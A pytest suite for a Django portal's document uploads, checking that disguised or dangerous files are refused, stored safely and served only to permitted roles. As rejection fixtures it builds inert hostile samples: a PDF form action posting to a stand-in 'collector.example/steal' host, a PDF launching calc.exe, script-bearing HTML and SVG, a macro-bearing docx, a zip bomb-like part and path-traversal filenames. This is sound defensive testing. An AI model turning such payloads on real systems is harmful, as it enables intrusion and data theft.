"""Uploaded documents: refused unless they are what their name says and small enough; stored under random names
through the documents storage; handed out as attachments to the permitted roles only; every upload, download and
refusal in the ledger, with the SHA-256 of the bytes actually stored."""

import hashlib
import io
import struct
import zipfile
import zlib
from functools import partial
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError, connection, transaction
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from accounts.choices import Role
from audit import append_only
from audit.choices import AccessKind, LedgerAction
from audit.ledger import ActionDenied
from audit.models import AccessEvent, LedgerEntry
from governance.models import Document, DocumentKind
from governance.services.documents import document_download, document_storage, document_upload
from governance.services.usecases import use_case_create
from governance.uploads import sanitise_filename
from lineage.models import DatasetVersion
from lineage.services import dataset_create
from registry.choices import IncidentSeverity, IncidentSource
from registry.services.incidents import incident_open
from tests import services
from tests.concurrency import run_at_once
from tests.governance.test_usecases import use_case_fields
from tests.lineage.conftest import new_version
from tests.signing_in import login_verified

pytestmark = pytest.mark.django_db


# --- Files, as people have them ---------------------------------------------------------------------------
def pdf_bytes(*, javascript: str = "", launch: bool = False) -> bytes:
    """A one-page PDF; with ``javascript``, a document-level script (run on opening); with ``launch``, an open
    action that starts a program."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if javascript:
        script = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(javascript)}
        )
        names = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(script)])}
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    if launch:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **entries: object) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in entries.items()}}
    )


def _annotation(subtype: str, **entries: object) -> DictionaryObject:
    rect = ArrayObject([NumberObject(10), NumberObject(10), NumberObject(90), NumberObject(30)])
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): rect,
            **{NameObject(f"/{k}"): v for k, v in entries.items()},
        }
    )


def pdf_with(*, open_action: DictionaryObject | None = None, page: dict | None = None, embedded: bool = False) -> bytes:
    """A one-page PDF with an open action, extra page entries and/or an embedded file, as a generator writes them."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if open_action is not None:
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(open_action)
    for key, value in (page or {}).items():
        writer.pages[0][NameObject(key)] = value
    if embedded:
        writer.add_attachment("source.csv", b"name,value\nrows,3\n")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def png_bytes() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def jpeg_bytes() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"


_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def office_bytes(main_part: str, main_type: str, *, extra: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<?xml version="1.0"?><Types><Override PartName="/{main_part}" ContentType="{main_type}"/></Types>',
        )
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(main_part, "<document/>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bytes(**kwargs: object) -> bytes:
    return office_bytes("word/document.xml", _DOCX_MAIN, **kwargs)


def xlsx_bytes() -> bytes:
    return office_bytes("xl/workbook.xml", _XLSX_MAIN)


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"


# --- People and records -----------------------------------------------------------------------------------
@pytest.fixture
def people(user_in_role) -> dict[str, object]:
    roles = {
        "steward": Role.DATA_STEWARD,
        "legal": Role.LEGAL_REVIEWER,
        "ml": Role.ML_ENGINEER,
        "owner": Role.PRODUCT_OWNER,
        "cab": Role.CHANGE_ADVISORY_BOARD,
        "auditor": Role.AUDITOR,
        "risk": Role.RISK_OFFICER,
        "compliance": Role.COMPLIANCE_REVIEWER,
    }
    return {name: user_in_role(role, username=name) for name, role in roles.items()}


@pytest.fixture
def version(people) -> DatasetVersion:
    dataset = dataset_create(
        actor=people["steward"], slug="support-chats", name="Support chats", steward=people["steward"]
    )
    return new_version(dataset, people["steward"])


@pytest.fixture
def use_case(people):
    return use_case_create(actor=people["owner"], slug="billing-assistant", **use_case_fields(people["owner"]))


@pytest.fixture
def incident(people, use_case):
    return incident_open(
        use_case=use_case,
        actor=people["ml"],
        title="Card number in an answer",
        description="A customer saw a card number.",
        severity=IncidentSeverity.SEV2,
        source=IncidentSource.COMPLAINT,
    )


def upload(actor, target, data: bytes, filename: str, kind: str = DocumentKind.DPIA, **kwargs) -> Document:
    return document_upload(
        actor=actor, target=target, kind=kind, file=io.BytesIO(data), filename=filename, size=len(data), **kwargs
    )


def stored_files() -> list[str]:
    storage = document_storage()
    root = Path(storage.location)
    return sorted(str(path.relative_to(root)) for path in root.rglob("*") if path.is_file())


@pytest.fixture(autouse=True)
def _empty_document_storage() -> None:
    """The storage outlives each test's rolled-back database: every test starts (and ends) with it empty."""
    storage = document_storage()
    for path in sorted(Path(storage.location).rglob("*"), reverse=True):
        path.unlink() if path.is_file() else path.rmdir()
    yield
    for path in sorted(Path(storage.location).rglob("*"), reverse=True):
        path.unlink() if path.is_file() else path.rmdir()


def ledger_actions(obj) -> list[str]:
    return list(
        LedgerEntry.objects.filter(object_type=obj._meta.label_lower, object_id=str(obj.pk))
        .order_by("sequence")
        .values_list("action", flat=True)
    )


# --- Refused uploads: nothing stored, nothing recorded as uploaded ------------------------------------------
@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (EXE, "dpia.pdf", "x-msdownload"),
        (HTML, "dpia.pdf", "its content is not a PDF"),
        (pdf_bytes(javascript="app.alert('hi')"), "dpia.pdf", "active content"),
        (pdf_bytes(launch=True), "dpia.pdf", "active content (Launch)"),
        (HTML, "notes.txt", "HTML or XML document"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "notes.md", "HTML or XML document"),
        (png_bytes(), "figures.csv", "image/png"),
        (b"name,value\n\x00\x01\x02", "figures.csv", "binary data"),
        ("café".encode("latin-1"), "notes.txt", "not UTF-8"),
        (pdf_bytes(), "scan.png", "not a PNG image"),
        (docx_bytes(extra={"word/vbaProject.bin": b"macro"}), "dpia.docx", "macros"),
        (xlsx_bytes(), "dpia.docx", "not a Word document"),
        (b"PK\x03\x04 not really a zip", "dpia.docx", "Word document"),
        (EXE, "installer.exe", "type .exe are not accepted"),
        (HTML, "dpia.html", "type .html are not accepted"),
        (b"plain", "README", "(no extension)"),
    ],
)
def test_a_file_that_is_not_what_its_name_says_or_not_an_allowed_type_is_refused(
    people, version, data: bytes, filename: str, message: str
) -> None:
    with pytest.raises(ValidationError, match=message.replace("(", r"\(").replace(")", r"\)")):
        upload(people["steward"], version, data, filename)

    assert not Document.objects.exists()
    assert LedgerAction.UPLOAD not in ledger_actions(version)
    assert stored_files() == []


_GO_TO_EMBEDDED = _action("/GoToE", NewWindow=NameObject("/false"), T=DictionaryObject())
_SUBMIT = _action("/SubmitForm", F=TextStringObject("https://collector.example/steal"))


@pytest.mark.parametrize(
    ("data", "marker"),
    [
        (pdf_with(open_action=_GO_TO_EMBEDDED, embedded=True), "GoToE"),
        (pdf_with(page={"/AA": DictionaryObject({NameObject("/O"): _action("/GoTo")})}), "AA"),
        (pdf_with(page={"/Annots": ArrayObject([_annotation("/Link", A=_SUBMIT)])}), "SubmitForm"),
        (pdf_with(open_action=_action("/ImportData", F=TextStringObject("data.fdf"))), "ImportData"),
        (pdf_with(page={"/Annots": ArrayObject([_annotation("/RichMedia")])}), "RichMedia"),
    ],
)
def test_a_pdf_with_automatic_or_data_sending_actions_is_refused(people, version, data: bytes, marker: str) -> None:
    with pytest.raises(ValidationError, match=rf"active content \({marker}\)"):
        upload(people["steward"], version, data, "dpia.pdf")

    assert stored_files() == []


def test_a_pdf_with_links_a_go_to_page_open_action_and_embedded_files_is_accepted(people, version) -> None:
    link = _annotation("/Link", A=_action("/URI", URI=TextStringObject("https://example.org/policy")))
    first_page = _action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))
    data = pdf_with(open_action=first_page, page={"/Annots": ArrayObject([link])}, embedded=True)

    document = upload(people["steward"], version, data, "evidence-pack.pdf")

    assert document.sha256 == hashlib.sha256(data).hexdigest()


def test_an_office_file_with_an_oversized_content_types_part_is_refused_without_reading_it_all(people, version) -> None:
    padded = f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{_DOCX_MAIN}"/>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", padded + " " * (2 * 1024 * 1024) + "</Types>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<document/>")
    data = buffer.getvalue()
    assert len(data) < 64 * 1024  # small on the wire, large once unpacked

    with pytest.raises(ValidationError, match="oversized content-types part"):
        upload(people["steward"], version, data, "dpia.docx")
    assert stored_files() == []


def test_a_file_over_the_size_limit_is_refused(people, version, settings) -> None:
    settings.DOCUMENT_MAX_BYTES = 1024

    with pytest.raises(ValidationError, match=r"at most 1\.0 KiB"):
        upload(people["steward"], version, b"a" * 1025, "notes.txt")
    with pytest.raises(ValidationError, match="empty"):
        upload(people["steward"], version, b"", "notes.txt")

    assert stored_files() == []
    upload(people["steward"], version, b"a" * 1024, "notes.txt")  # exactly the limit is fine


def test_an_oversized_upload_through_the_admin_is_cut_off_and_explained(client, people, version, settings) -> None:
    settings.DOCUMENT_MAX_BYTES = 4096
    login_verified(client, people["steward"])
    url = reverse("admin:governance_document_upload", args=["lineage", "datasetversion", version.pk])

    response = client.post(
        url, {"kind": DocumentKind.DPIA, "file": SimpleUploadedFile("dpia.pdf", b"%PDF-1.7\n" + b"0" * 10_000)}
    )

    assert response.status_code == 400
    assert "larger than 4.0 KiB" in response.content.decode()
    assert not Document.objects.exists()
    assert stored_files() == []


@pytest.mark.parametrize("object_id", ["not-a-number", "1.5", "99999999999999999999999"])
def test_the_upload_page_of_a_record_id_that_cannot_exist_is_404(client, people, object_id: str) -> None:
    login_verified(client, people["steward"])
    url = reverse("admin:governance_document_upload", args=["lineage", "datasetversion", object_id])

    assert client.get(url).status_code == 404
    assert client.post(url, {"kind": DocumentKind.DPIA}).status_code == 404


def test_a_role_that_does_not_own_the_record_cannot_attach_and_the_attempt_is_recorded(
    people, version, use_case, incident
) -> None:
    for actor, target in ((people["owner"], version), (people["steward"], use_case), (people["auditor"], incident)):
        with pytest.raises(ActionDenied, match="may attach documents"):
            upload(actor, target, pdf_bytes(), "report.pdf", kind=DocumentKind.OTHER)
        denial = LedgerEntry.objects.filter(action=LedgerAction.DENIED).latest("sequence")
        assert (denial.object_type, denial.object_id) == (target._meta.label_lower, str(target.pk))
        assert denial.actor_id == actor.pk

    assert not Document.objects.exists()
    assert stored_files() == []


def test_the_upload_page_refuses_a_wrong_role_with_403_and_records_the_post(client, people, version) -> None:
    login_verified(client, people["cab"])
    url = reverse("admin:governance_document_upload", args=["lineage", "datasetversion", version.pk])

    assert client.get(url).status_code == 403
    response = client.post(url, {"kind": DocumentKind.DPIA, "file": SimpleUploadedFile("dpia.pdf", pdf_bytes())})

    assert response.status_code == 403
    assert LedgerAction.DENIED in ledger_actions(version)
    assert stored_files() == []


def test_a_record_takes_only_its_kinds_of_document(people, version, incident) -> None:
    with pytest.raises(ValidationError, match="takes these documents"):
        upload(people["steward"], version, pdf_bytes(), "report.pdf", kind=DocumentKind.INCIDENT_REPORT)
    with pytest.raises(ValidationError, match="takes these documents"):
        upload(people["ml"], incident, pdf_bytes(), "dpia.pdf", kind=DocumentKind.DPIA)
    assert stored_files() == []


def test_a_failed_transaction_leaves_no_stored_file(people, version, monkeypatch) -> None:
    def ledger_down(**kwargs: object) -> None:
        raise DatabaseError("ledger unavailable")

    monkeypatch.setattr("governance.services.documents.ledger.append", ledger_down)

    with pytest.raises(DatabaseError):
        upload(people["steward"], version, pdf_bytes(), "dpia.pdf")

    assert not Document.objects.exists()
    assert stored_files() == []


# --- Accepted uploads ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("data", "filename", "media_type"),
    [
        (pdf_bytes(), "DPIA v1.pdf", "application/pdf"),
        (png_bytes(), "flow.png", "image/png"),
        (jpeg_bytes(), "scan.JPG", "image/jpeg"),
        (docx_bytes(), "dpia.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (xlsx_bytes(), "risks.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("Résumé of the assessment\n".encode(), "notes.txt", "text/plain"),
        (b"# DPIA\n\n```html\n<script>shown, not run</script>\n```\n", "dpia.md", "text/markdown"),
        (b"\xef\xbb\xbfrisk,score\nleak,3\n", "risks.csv", "text/csv"),
    ],
)
def test_allowed_types_are_accepted_and_recorded_with_the_stored_files_sha256(
    people, version, data: bytes, filename: str, media_type: str
) -> None:
    document = upload(people["legal"], version, data, filename)

    assert document.media_type == media_type
    assert document.size_bytes == len(data)
    with document_storage().open(document.storage_name, "rb") as handle:
        stored = handle.read()
    assert stored == data
    entry = LedgerEntry.objects.get(action=LedgerAction.UPLOAD)
    payload = entry.payload
    assert payload["sha256"] == hashlib.sha256(stored).hexdigest() == document.sha256
    assert (entry.object_type, entry.object_id, entry.actor_id) == (
        "lineage.datasetversion",
        str(version.pk),
        people["legal"].pk,
    )
    assert payload["document"] == document.pk


def test_files_are_stored_under_random_names_outside_what_the_web_server_serves(people, version) -> None:
    from portal import settings as portal_settings

    document = upload(people["steward"], version, pdf_bytes(), "../../etc/Patient list.pdf")

    assert document.original_filename == "Patient_list.pdf"
    assert "Patient" not in document.storage_name
    assert "/etc" not in document.storage_name
    assert stored_files() == [document.storage_name]
    location = Path(portal_settings.STORAGES["documents"]["OPTIONS"]["location"]).resolve()
    for served in (Path(portal_settings.STATIC_ROOT).resolve(), Path(portal_settings.MEDIA_ROOT).resolve()):
        assert not location.is_relative_to(served)
    assert not served.is_relative_to(location)


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("C:\\Users\\ana\\DPIA.PDF", "DPIA.pdf"),
        ("..\u202egpj.exe.pdf", "gpj.exe.pdf"),
        ("<script>alert(1)</script>.txt", "script.txt"),
        ("", "document"),
    ],
)
def test_file_names_are_sanitised_for_display_and_download(name: str, clean: str) -> None:
    assert sanitise_filename(name) == clean


def test_documents_are_append_only_a_correction_supersedes(people, version) -> None:
    first = upload(people["steward"], version, pdf_bytes(), "dpia.pdf")
    second = upload(people["legal"], version, pdf_bytes(javascript=""), "dpia-v2.pdf", supersedes=first)

    assert second.supersedes == first
    with pytest.raises(ValidationError, match="already been superseded"):
        upload(people["legal"], version, pdf_bytes(), "dpia-v3.pdf", supersedes=first)
    with pytest.raises(ValidationError, match="same kind"):
        upload(people["legal"], version, pdf_bytes(), "other.pdf", kind=DocumentKind.OTHER, supersedes=second)

    assert Document._meta.db_table in append_only.protected_tables(connection)
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(f"UPDATE {Document._meta.db_table} SET sha256 = %s", ["0" * 64])  # noqa: S608
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(f"DELETE FROM {Document._meta.db_table}")  # noqa: S608


# --- Downloads ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("reader", ["owner", "cab", "ml"])
def test_a_download_by_a_role_that_may_not_read_it_is_403_and_recorded(client, people, version, reader) -> None:
    document = upload(people["steward"], version, pdf_bytes(), "dpia.pdf")
    login_verified(client, people[reader])

    response = client.get(reverse("admin:governance_document_download", args=[document.pk]))

    assert response.status_code == 403
    denial = LedgerEntry.objects.filter(action=LedgerAction.DENIED).latest("sequence")
    assert denial.actor_id == people[reader].pk
    assert not AccessEvent.objects.filter(kind=AccessKind.DOWNLOAD).exists()


def test_an_administrator_without_a_role_may_not_download(people, version, django_user_model) -> None:
    document = upload(people["steward"], version, pdf_bytes(), "dpia.pdf")
    admin = django_user_model.objects.create_superuser("root", password="x" * 16)

    with pytest.raises(ActionDenied):
        document_download(document=document, user=admin)


@pytest.mark.parametrize("reader", ["auditor", "risk", "compliance", "steward", "legal"])
def test_the_permitted_roles_download_it_as_an_attachment_and_the_download_is_recorded(
    client, people, version, reader
) -> None:
    data = pdf_bytes()
    document = upload(people["steward"], version, data, "DPIA support chats.pdf")
    login_verified(client, people[reader])

    response = client.get(reverse("admin:governance_document_download", args=[document.pk]))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == data
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="DPIA_support_chats.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["X-Content-SHA256"] == hashlib.sha256(data).hexdigest()
    event = AccessEvent.objects.get(kind=AccessKind.DOWNLOAD)
    assert (event.user, event.object_type, event.object_id) == (
        people[reader],
        "lineage.datasetversion",
        str(version.pk),
    )
    assert ledger_actions(version)[-1] == LedgerAction.DOWNLOAD


def test_a_text_document_is_served_as_text_with_its_charset_never_as_html(client, people, version) -> None:
    document = upload(people["steward"], version, b"# Notes\n<b>not bold</b>\n", "notes.md")
    login_verified(client, people["auditor"])

    response = client.get(reverse("admin:governance_document_download", args=[document.pk]))

    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")


def test_a_stored_file_changed_on_disk_is_not_handed_out(people, version) -> None:
    document = upload(people["steward"], version, pdf_bytes(), "dpia.pdf")
    path = Path(document_storage().path(document.storage_name))
    path.chmod(0o600)
    path.write_bytes(path.read_bytes() + b"% appended")

    with pytest.raises(ActionDenied, match="no longer matches"):
        document_download(document=document, user=people["auditor"])
    assert LedgerEntry.objects.filter(action=LedgerAction.DENIED).exists()


def test_the_bytes_handed_out_are_the_bytes_that_were_checked(people, version, monkeypatch) -> None:
    """The stored file is replaced the moment it has been opened once: what goes out must still be what was
    hashed, not whatever a second opening would find."""
    data = pdf_bytes()
    document = upload(people["steward"], version, data, "dpia.pdf")
    storage = document_storage()
    path = Path(storage.path(document.storage_name))
    path.chmod(0o600)
    opened = []
    open_stored = storage.open

    def open_then_swap(name: str, mode: str = "rb"):
        handle = open_stored(name, mode)
        if opened:
            handle.close()
            path.write_bytes(data + b"% swapped after the check")
            handle = open_stored(name, mode)
        opened.append(name)
        return handle

    monkeypatch.setattr(storage, "open", open_then_swap)

    download = document_download(document=document, user=people["auditor"])
    path.write_bytes(data + b"% swapped after the check")

    assert download.handle.read() == data
    download.handle.close()


# --- The pages ----------------------------------------------------------------------------------------------
def test_the_record_pages_list_documents_with_the_links_each_role_may_use(
    client, people, version, use_case, incident
) -> None:
    document = upload(people["steward"], version, pdf_bytes(), "dpia.pdf")
    download = reverse("admin:governance_document_download", args=[document.pk])
    page = reverse("admin:lineage_datasetversion_change", args=[version.pk])

    login_verified(client, people["auditor"])
    body = client.get(page).content.decode()
    assert "dpia.pdf" in body
    assert download in body
    assert "Attach a document" not in body

    login_verified(client, people["cab"])
    body = client.get(page).content.decode()
    assert "dpia.pdf" in body
    assert download not in body

    login_verified(client, people["owner"])
    body = client.get(reverse("admin:governance_usecase_change", args=[use_case.pk])).content.decode()
    assert "Attach a document" in body

    login_verified(client, people["ml"])
    body = client.get(reverse("admin:registry_incident_change", args=[incident.pk])).content.decode()
    assert "Attach a document" in body


def test_an_incident_report_is_uploaded_through_the_page_and_lands_on_the_incident(client, people, incident) -> None:
    login_verified(client, people["ml"])
    url = reverse("admin:governance_document_upload", args=["registry", "incident", incident.pk])
    data = pdf_bytes()

    response = client.post(
        url,
        {"kind": DocumentKind.INCIDENT_REPORT, "file": SimpleUploadedFile("report.pdf", data), "description": "RCA"},
    )

    assert response.status_code == 302
    assert response["Location"] == reverse("admin:registry_incident_change", args=[incident.pk])
    document = Document.objects.get()
    assert (document.target, document.kind, document.sha256) == (
        incident,
        DocumentKind.INCIDENT_REPORT,
        hashlib.sha256(data).hexdigest(),
    )
    assert LedgerAction.UPLOAD in ledger_actions(incident)


@services.postgres_race
@pytest.mark.django_db(transaction=True)
def test_two_people_superseding_the_same_document_at_once_make_one_successor(people, version) -> None:
    first = upload(people["steward"], version, pdf_bytes(), "dpia.pdf")
    names = ("steward", "legal")

    def supersede(name: str) -> Document:
        return upload(people[name], version, pdf_bytes(), f"dpia-{name}.pdf", supersedes=first)

    raced = run_at_once(*(partial(supersede, name) for name in names), timeout=60)
    outcomes = {
        name: outcome.result if outcome.error is None else outcome.error
        for name, outcome in zip(names, raced, strict=True)
    }

    successors = [outcome for outcome in outcomes.values() if isinstance(outcome, Document)]
    refusals = [outcome for outcome in outcomes.values() if isinstance(outcome, ValidationError)]
    assert len(successors) == 1, outcomes
    assert len(refusals) == 1, outcomes
    assert "already been superseded" in str(refusals[0])
    assert Document.objects.filter(supersedes=first).get() == successors[0]
    assert sorted(stored_files()) == sorted([first.storage_name, successors[0].storage_name])
